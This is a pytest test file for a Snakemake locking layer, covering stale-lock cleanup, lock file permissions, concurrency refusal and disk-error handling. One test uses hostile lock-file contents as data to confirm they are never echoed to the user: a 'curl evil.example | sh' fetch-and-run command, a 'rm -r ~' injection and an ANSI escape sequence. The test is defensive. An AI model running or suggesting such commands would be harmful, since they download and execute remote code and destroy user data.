"""Which lock of Snakemake still means something: by a lock that ends with its process."""

import errno
import fcntl
import json
import os
import platform
import shutil
import signal
from pathlib import Path
from types import SimpleNamespace

import pytest
from snakemake.persistence.file import FilePersistence

from maskmake.runtime.errors import UserError
from maskmake.runtime.locks import Process
from maskmake.runtime.log import job
from maskmake.snakefile.results_lock import ResultsLock, number_of
from maskmake.snakefile.snakemake_locks import separate_locks

LOCKS = Path(".snakemake/locks")


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    """The working folder, with a lock of Snakemake on the results ``mine``."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MASKMAKE_SNAKEMAKE", "")  # so that it is taken away again
    LOCKS.mkdir(parents=True)
    (LOCKS / "0.input.lock").write_text("images/1.png\n")
    (LOCKS / "0.output.lock").write_text("results/mine/data/audit.json\n")


def at_work():
    return ResultsLock("results/mine", "results/weights")


def other_snakemake(results="results/mine", locked=()):
    """The id of another process that is at work, and has locks of Snakemake on these files."""
    reading, writing = os.pipe()
    process = os.fork()
    if process == 0:
        ResultsLock(results, "results/weights").acquire(dry_run=False)
        if locked:
            lock_file(os.getpid()).write_text("".join(f"{name}\n" for name in locked))
        os.write(writing, b".")
        signal.pause()
    os.read(reading, 1)
    return process


def lock_file(process):
    """The lock of Snakemake on what a process reads."""
    return LOCKS / f"{number_of(Process(process, platform.node()))}.input.lock"


def kill(process):
    os.kill(process, signal.SIGKILL)
    os.waitpid(process, 0)


def killed_snakemake():
    process = other_snakemake()
    kill(process)
    return process


def test_the_lock_of_a_killed_process_goes_and_it_is_named_once():
    process = killed_snakemake()
    notice = at_work().acquire(dry_run=True)
    assert f"a Snakemake was killed here (process {process} on {platform.node()}" in notice
    assert [path.name for path in LOCKS.iterdir()] == ["0.input.lock"]
    assert at_work().acquire(dry_run=True) is None


@pytest.mark.parametrize(
    ("text", "goes"),
    [
        ("results/mine/a\nresults/other/b\n", True),
        ("results/weights/resnet18.h5\n", True),
        ("results/weights/resnet18.h5\nresults/other/b\n", False),
        ("results/mine2/a\n", False),
    ],
)
def test_a_lock_goes_that_names_these_results_or_none_but_shared(text, goes):
    (LOCKS / "0.output.lock").write_text(text)
    killed_snakemake()
    at_work().acquire(dry_run=False)
    assert (LOCKS / "0.output.lock").exists() != goes


def test_the_lock_of_another_that_reads_these_results_goes_only_when_it_was_killed():
    killed = killed_snakemake()
    (LOCKS / "0.output.lock").unlink()
    other = other_snakemake("results/other", ["results/mine/runs/a/fold0/model.keras"])
    lock = at_work()
    assert f"a Snakemake was killed here (process {killed} on" in lock.acquire(dry_run=False)
    assert lock_file(other).exists()
    (LOCKS / "0.input.lock").unlink()
    assert lock.describe_holder() == (
        "results/mine: a Snakemake at work on other results uses files that this one needs too: "
        f"results/other (process {other} on {platform.node()}); wait until it has ended."
    )
    assert lock.numbers_at_work() == {number_of(Process(other, platform.node()))}
    kill(other)
    ResultsLock("results/third", "results/weights").acquire(dry_run=True)
    assert not lock_file(other).exists()
    notice = ResultsLock("results/other", "results/weights").acquire(dry_run=True)
    assert f"a Snakemake was killed here (process {other} on" in notice


@pytest.fixture
def persistence(monkeypatch):
    """What writes the locks of a Snakemake, of the number 7; the Snakemake of number 8 works."""
    for name in ("_write_locks", "_delete_locks", "cleanup_locks"):
        monkeypatch.setattr(FilePersistence, name, getattr(FilePersistence, name))
    separate_locks("7", lambda: ["8"])
    return FilePersistence(path=Path(".snakemake"))


def test_locks_of_another_snakemake_stay_and_none_fails_when_their_folder_is_gone(persistence):
    shutil.rmtree(LOCKS)  # as another Snakemake did that ended
    persistence._write_locks("input", ["images/1.png"])
    persistence._write_locks("output", ["results/mine/a"])
    (LOCKS / "8.output.lock").write_text("results/other/b\n")
    assert sorted(persistence._read_locks()) == [
        ("input", "images/1.png"),
        ("output", "results/mine/a"),
        ("output", "results/other/b"),
    ]
    persistence.unlock()
    assert [path.name for path in LOCKS.iterdir()] == ["8.output.lock"]


def test_unlock_removes_the_locks_of_those_that_are_gone(persistence):
    (LOCKS / "8.output.lock").write_text("results/other/b\n")
    persistence.cleanup_locks()
    assert [path.name for path in LOCKS.iterdir()] == ["8.output.lock"]


def test_the_lock_holds_a_process_and_a_host_for_its_owner_alone(monkeypatch):
    monkeypatch.setattr("sys.argv", ["snakemake", "--storage-s3-secret-key", "T0PSECRET"])
    file = Path(".snakemake/maskmake-mine.lock")
    file.write_text("")
    file.chmod(0o666)  # as an earlier version made it
    lock = at_work()
    lock.acquire(dry_run=False)
    assert json.loads(file.read_text()) == [os.getpid(), platform.node()]
    assert file.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "text",
    [
        json.dumps(["1; curl http://evil.example/x | sh #", platform.node()]),
        json.dumps([1, "vm; rm -r ~ #"]),
        json.dumps([1, "\x1b[31mred"]),
        json.dumps([True, platform.node()]),
    ],
)
def test_a_text_of_someone_else_is_not_shown(text):
    other = other_snakemake()
    Path(".snakemake/maskmake-mine.lock").write_text(text)
    try:
        sentence = at_work_beside_another().describe_holder()
        assert sentence.startswith("results/mine: locked by another Snakemake, or by one that was")
        assert "evil" not in sentence and "rm" not in sentence and "\x1b" not in sentence
    finally:
        kill(other)


def at_work_beside_another():
    lock = at_work()
    lock.acquire(dry_run=False)
    return lock


def test_two_processes_may_not_work_at_a_time():
    first, second = other_snakemake(), at_work()
    assert second.acquire(dry_run=False) is None
    assert (LOCKS / "0.output.lock").exists()
    assert f"another Snakemake is at work here (process {first} on" in second.why_refused()
    kill(first)
    assert second.why_refused() is None


def test_one_snakemake_may_work_on_data_sets_of_one_name_below_two_prefixes():
    prefixes = ("", "one/", "two/")
    locks = [ResultsLock(f"{prefix}results/mine", "results/weights") for prefix in prefixes]
    assert [lock.acquire(dry_run=False) for lock in locks] == [None] * 3
    assert [lock.why_refused() for lock in locks] == [None] * 3


@pytest.mark.parametrize("text", ["", "[4711", "null", "\0\0\0"])
def test_a_damaged_name_is_no_name(text):
    Path(".snakemake/maskmake-mine.lock").write_text(text)
    first = at_work()
    assert first.acquire(dry_run=False) is None
    assert (LOCKS / "0.output.lock").exists()
    assert "if none is at work here, add --unlock" in first.describe_holder()


@pytest.fixture
def without_locks(monkeypatch):
    def refuse(*_):
        raise OSError(errno.ENOLCK, "No locks available")

    monkeypatch.setattr(fcntl, "flock", refuse)


def test_without_locks_snakemake_s_own_is_left_and_work_goes_on(without_locks):
    Path(".snakemake/maskmake-mine.lock").write_text(json.dumps([1, platform.node(), "snakemake"]))
    first = at_work()
    assert first.acquire(dry_run=False) is None
    assert first.why_refused() is None
    assert (LOCKS / "0.output.lock").exists()


def test_without_locks_a_job_is_done(without_locks, monkeypatch):
    monkeypatch.delenv("MASKMAKE_SNAKEMAKE")
    with job(SimpleNamespace(log=["a.log"], rule="a_rule")):
        Path("done").touch()
    assert Path("done").exists()


def test_another_error_of_the_disk_is_a_defect(monkeypatch):
    def fail(*_):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(fcntl, "flock", fail)
    with pytest.raises(OSError, match="Input/output error"):
        at_work().acquire(dry_run=False)


def test_a_full_folder_for_temporary_files_is_named(monkeypatch, tmp_path):
    def refuse(*_, **__):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.TemporaryFile", refuse)
    with pytest.raises(UserError, match=rf"^TMPDIR: {tmp_path}: No space left .* set the env"):
        at_work().acquire(dry_run=False)


def test_a_folder_that_may_not_be_written_to_is_named(monkeypatch):
    def refuse(*_, **__):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr("maskmake.snakefile.results_lock._check_temporary_folder", lambda: None)
    monkeypatch.setattr("tempfile.TemporaryFile", refuse)
    with pytest.raises(UserError, match=r"^\.snakemake: Read-only file system; free space or fix"):
        at_work().acquire(dry_run=False)
